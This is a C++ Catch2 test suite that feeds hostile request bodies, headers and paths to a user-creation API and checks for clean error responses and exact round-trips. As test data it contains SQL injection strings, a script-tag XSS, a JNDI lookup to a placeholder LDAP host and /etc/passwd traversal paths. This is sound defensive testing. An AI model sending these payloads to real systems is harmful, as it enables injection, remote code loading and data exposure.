// Hostile request bodies (issue 9) through a real server and worker: names
// that are not UTF-8 or hold control characters, names full of quotes, SQL
// and unusual Unicode, and JSON that is deep, ambiguous or of the wrong
// shape. Bad input is a 400 problem saying why, never leaking internals;
// every valid name round-trips byte for byte into the database.

#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>

#include "tests/hostile/hostile_stack.hpp"
#include "tests/integration/checks.hpp"
#include "tests/integration/pipeline.hpp"
#include "tests/support/text.hpp"

using namespace semiasync;
using namespace semiasync::testing;
using namespace std::chrono_literals;
using clock_type = std::chrono::steady_clock;

namespace {

/// A body the test writes byte by byte and the detail its 400 must carry.
struct bad_body {
  /// What the case is, for messages.
  std::string what;
  /// The body, as sent.
  std::string body;
  /// A part of the problem's `detail`.
  std::string detail;
};

/// POSTs `body` as JSON and checks that it is a clean 400 whose detail
/// contains `detail`.
void check_rejected(hostile_stack& stack, const bad_body& bad) {
  INFO(bad.what << ": " << bad.body.substr(0, 120));
  auto resp = http_send(stack.port(), json_post("/users", bad.body));
  check_clean_problem(resp, 400);
  auto doc = nlohmann::json::parse(resp.body, nullptr, false);
  REQUIRE(doc.is_object());
  CHECK_THAT(doc.value("detail", ""), Catch::Contains(bad.detail));
}

/// `{"name": "<prefix><raw>"}` where `raw` is pasted into the JSON string
/// as it is (escapes included), after a run-unique prefix.
std::string body_with_raw_name(const std::string& raw) {
  return R"({"name": ")" + unique_name("bad") + raw + "\"}";
}

/// The name's row, found by a byte-wise comparison among this run's rows
/// that start with `tag` (the database compares names case-insensitively).
std::optional<stored_user> row_named(const std::string& tag,
                                     const std::string& name) {
  for (auto& row : users_with_prefix(tag))
    if (row.name.value == name) return row;
  return std::nullopt;
}

/// Creates `name` with `body` and checks that the answer, `GET /users/<uuid>`
/// and the database row all carry exactly its bytes.
void check_round_trip(hostile_stack& stack, const std::string& tag,
                      const std::string& name, const std::string& body) {
  INFO("name: " << name << "\nbody: " << body);
  auto resp = http_send(stack.port(), json_post("/users", body));
  auto uuid = check_created(resp, name);
  auto read = http_send(stack.port(), {"GET", "/users/" + uuid, {}, {}});
  REQUIRE(read.status == 200);
  CHECK(json_body(read).value("name", "") == name);
  auto row = row_named(tag, name);
  REQUIRE(row);
  CHECK(row->user.value == uuid);
  CHECK(row->name.value.size() == name.size());
  CHECK(row->name.value == name);
}

} // namespace

TEST_CASE("names that are not valid UTF-8 or hold control characters are a "
          "400 saying why",
          "[hostile][names]") {
  auto& stack = hostile_stack::shared();
  auto bad = GENERATE(values<bad_body>({
    {"bytes FF FE", body_with_raw_name("\xff\xfe"), "not valid UTF-8"},
    {"overlong '/'", body_with_raw_name("\xc0\xaf"), "not valid UTF-8"},
    {"overlong NUL", body_with_raw_name("\xc0\x80"), "not valid UTF-8"},
    {"lone surrogate D800", body_with_raw_name("\xed\xa0\x80"),
     "not valid UTF-8"},
    {"past U+10FFFF", body_with_raw_name("\xf4\x90\x80\x80"),
     "not valid UTF-8"},
    {"truncated sequence", body_with_raw_name("caf\xc3"), "not valid UTF-8"},
    {"lone continuation byte", body_with_raw_name("\x80"), "not valid UTF-8"},
    {"escaped lone surrogate", body_with_raw_name("\\ud800"), "not valid JSON"},
    {"escaped surrogates reversed", body_with_raw_name("\\udc00\\ud800"),
     "not valid JSON"},
    {"escaped NUL", body_with_raw_name("\\u0000"), "control characters"},
    {"escaped SOH", body_with_raw_name("\\u0001"), "control characters"},
    {"raw SOH", body_with_raw_name("\x01"), "not valid JSON"},
    {"raw newline", body_with_raw_name("\n"), "not valid JSON"},
    {"escaped newline", body_with_raw_name("\\n"), "control characters"},
    {"escaped tab", body_with_raw_name("\\t"), "control characters"},
    {"raw DEL", body_with_raw_name("\x7f"), "control characters"},
    {"escaped DEL", body_with_raw_name("\\u007f"), "control characters"},
    {"C1 control NEL", body_with_raw_name("\xc2\x85"), "control characters"},
    {"escaped C1 control", body_with_raw_name("\\u009b"), "control characters"},
    {"empty", R"({"name": ""})", "must not be empty"},
    {"only spaces and ideographic spaces", R"({"name": "  \u3000 "})",
     "must not be blank"},
    {"256 characters", R"({"name": ")" + std::string(256, 'a') + "\"}",
     "longer than 255"},
    {"256 four-byte characters",
     R"({"name": ")" + repeat("\xF0\x9F\x98\x80", 256) + "\"}",
     "longer than 255"},
    {"64 KiB name", R"({"name": ")" + std::string(60000, 'a') + "\"}",
     "longer than 255"},
  }));
  check_rejected(stack, bad);
  stack.check_still_serving();
}

TEST_CASE("names full of quotes and SQL and unusual Unicode round-trip "
          "byte for byte",
          "[hostile][names]") {
  auto& stack = hostile_stack::shared();
  // Each name starts with a run-unique tag: names compare
  // case-insensitively in the database, and the cleanup finds them by it.
  auto payload = GENERATE(
    as<std::string>{}, "Robert'); DROP TABLE users;--", "\"\\'", "' OR '1'='1",
    "%_", "\\N", "\\0 \\Z \\b \\%", "`backticks` and $1 and ?",
    "<script>alert(1)</script>", "${jndi:ldap://example.invalid/a}",
    "\xF0\x9F\x98\x80\xF0\x9F\x8E\x89",
    // A family: emoji joined by zero-width joiners.
    "\xF0\x9F\x91\xA8\xE2\x80\x8D\xF0\x9F\x91\xA9\xE2"
    "\x80\x8D\xF0\x9F\x91\xA7",
    // Right-to-left mark, override, Hebrew.
    "\xE2\x80\x8F\xE2\x80\xAE\xD7\xA9\xD7\x9C\xD7\x95"
    "\xD7\x9D",
    // e + combining acute, and the precomposed one.
    "e\xCC\x81 \xC3\xA9",
    // A zero-width no-break space (BOM) inside.
    "a\xEF\xBB\xBF"
    "b",
    "trailing spaces  ", "Ŧĥé ÇÅŠÊ ñäMë");
  auto tag = unique_name("round-trip");
  auto name = tag + " " + payload;
  SECTION("sent as UTF-8") {
    check_round_trip(stack, tag, name, name_body(name));
  }
  SECTION("sent as \\u escapes") {
    auto escaped = nlohmann::json{{"name", name}}.dump(
      -1, ' ', true, nlohmann::json::error_handler_t::strict);
    check_round_trip(stack, tag, name, escaped);
  }
  stack.check_still_serving();
}

TEST_CASE("names of 255 characters round-trip (4-byte ones too)",
          "[hostile][names]") {
  auto& stack = hostile_stack::shared();
  // The tag is ASCII; the rest are 4-byte characters up to 255 in all, so
  // the row holds close to the 1020 bytes VARCHAR(255) allows in utf8mb4.
  auto tag = unique_name("long");
  SECTION("4-byte characters") {
    auto name = tag + repeat("\xF0\x9F\x98\x80", 255 - tag.size());
    check_round_trip(stack, tag, name, name_body(name));
  }
  SECTION("mixed 1- to 4-byte characters") {
    std::string name = tag;
    std::string_view pieces[]
      = {"a", "\xC3\xA9", "\xE2\x82\xAC", "\xF0\x9F\x98\x80"};
    for (size_t i = 0; tag.size() + i < 255; ++i)
      name += pieces[i % 4];
    check_round_trip(stack, tag, name, name_body(name));
  }
  stack.check_still_serving();
}

TEST_CASE("hostile JSON is a 400 saying why", "[hostile][json]") {
  auto& stack = hostile_stack::shared();
  auto name = unique_name("json");
  auto bad = GENERATE_COPY(values<bad_body>({
    {"arrays nested 10,000 deep",
     std::string(10000, '[') + std::string(10000, ']'), "nests too deeply"},
    {"objects nested 10,000 deep",
     R"({"name": "a", "x": )" + repeat(R"({"x":)", 10000) + "1"
       + std::string(10000, '}') + "}",
     "nests too deeply"},
    {"10,000 unclosed brackets", std::string(10000, '['), "nests too deeply"},
    {"duplicate name", R"({"name": "a", "name": "b"})", "duplicate key"},
    {"duplicate name, once escaped", R"({"name": "a", "n\u0061me": "b"})",
     "duplicate key"},
    {"duplicate other key", R"({"x": 1, "name": "a", "x": 2})",
     "duplicate key"},
    {"name a number", R"({"name": 42})", "must be a string"},
    {"name null", R"({"name": null})", "must be a string"},
    {"name an array", R"({"name": ["a"]})", "must be a string"},
    {"name an object", R"({"name": {"x": 1}})", "must be a string"},
    {"name a boolean", R"({"name": true})", "must be a string"},
    {"name a huge number", R"({"name": 1e999999})", "not valid JSON"},
    {"name missing", R"({"Name": "a"})", "missing"},
    {"top-level array", R"(["a"])", "must be a JSON object"},
    {"top-level string", R"("a")", "must be a JSON object"},
    {"top-level number", "42", "must be a JSON object"},
    {"top-level null", "null", "must be a JSON object"},
    {"empty body", "", "not valid JSON"},
    {"trailing garbage", R"({"name": "a"} x)", "not valid JSON"},
    {"a second object", R"({"name": "a"}{"name": "b"})", "not valid JSON"},
    {"a NUL, then a second object",
     std::string{R"({"name": "a"})"} + '\0' + R"({"name": "b"})",
     "not valid JSON"},
    {"single quotes", R"({'name': 'a'})", "not valid JSON"},
    {"a comment", R"({"name": "a" /* hi */})", "not valid JSON"},
    {"NaN", R"({"name": "a", "x": NaN})", "not valid JSON"},
    {"two BOMs", "\xEF\xBB\xBF\xEF\xBB\xBF" + name_body(name),
     "not valid JSON"},
    {"UTF-16 with BOM", std::string{"\xFF\xFE{\0\"\0n\0}\0", 10},
     "not valid UTF-8"},
  }));
  check_rejected(stack, bad);
  stack.check_still_serving();
}

TEST_CASE("JSON nested 30000 deep is refused quickly", "[hostile][json]") {
  auto& stack = hostile_stack::shared();
  auto body = std::string(30000, '[') + std::string(30000, ']');
  auto start = clock_type::now();
  auto resp = http_send(stack.port(), json_post("/users", body));
  CHECK(clock_type::now() - start < 1s);
  check_clean_problem(resp, 400);
  stack.check_still_serving();
}

TEST_CASE("a body starting with a UTF-8 byte order mark is accepted",
          "[hostile][json]") {
  // RFC 8259 section 8.1 lets a parser ignore a BOM, and some Windows
  // clients send one: the rest of the body is plain UTF-8 JSON.
  auto& stack = hostile_stack::shared();
  auto tag = unique_name("bom");
  check_round_trip(stack, tag, tag, "\xEF\xBB\xBF" + name_body(tag));
  stack.check_still_serving();
}

TEST_CASE("other requests with bad headers or methods get clean problems",
          "[hostile][json]") {
  auto& stack = hostile_stack::shared();
  auto body = name_body(unique_name("misc"));
  SECTION("a Content-Type that is not JSON") {
    auto resp = http_send(
      stack.port(), {"POST", "/users", {{"Content-Type", "text/plain"}}, body});
    check_clean_problem(resp, 415);
  }
  SECTION("an Idempotency-Key with a space, or of 300 characters") {
    // Control characters never get this far: the HTTP parser refuses them.
    for (std::string key : {std::string{"a b"}, std::string(300, 'k')}) {
      auto resp = http_send(
        stack.port(), json_post("/users", body, {{"Idempotency-Key", key}}));
      check_clean_problem(resp, 400);
    }
  }
  SECTION("an unknown path") {
    check_clean_problem(http_send(stack.port(), json_post("/etc/passwd", body)),
                        404);
    check_clean_problem(
      http_send(stack.port(), {"GET", "/users/../../etc/passwd", {}, {}}), 404);
  }
  SECTION("a path with a malformed percent escape") {
    // RESTinio's router throws on these, and RESTinio closes a connection
    // whose handler throws: each must still get its answer.
    for (std::string path : {"/users/%ZZ", "/%", "/users/%E2%82",
                             "/requests/%C3%28", "/healthz%"}) {
      INFO("GET " << path);
      check_clean_problem(http_send(stack.port(), {"GET", path, {}, {}}), 404);
    }
  }
  SECTION("hostile Prefer values are capped or ignored") {
    std::vector<std::string> values{"wait=99999999999999999999999999",
                                    "wait=-1", "wait=\"\", respond-async;;=,,",
                                    std::string(4000, ',')};
    for (auto& prefer : values) {
      INFO("Prefer: " << prefer);
      auto name = unique_name("prefer");
      auto resp = http_send(stack.port(), json_post("/users", name_body(name),
                                                    {{"Prefer", prefer}}));
      CHECK((resp.status == 201 || resp.status == 202));
    }
  }
  SECTION("a method not allowed") {
    auto resp = http_send(stack.port(), {"DELETE", "/users", {}, {}});
    check_clean_problem(resp, 405);
    CHECK(resp.header("Allow") == "POST");
  }
  stack.check_still_serving();
}
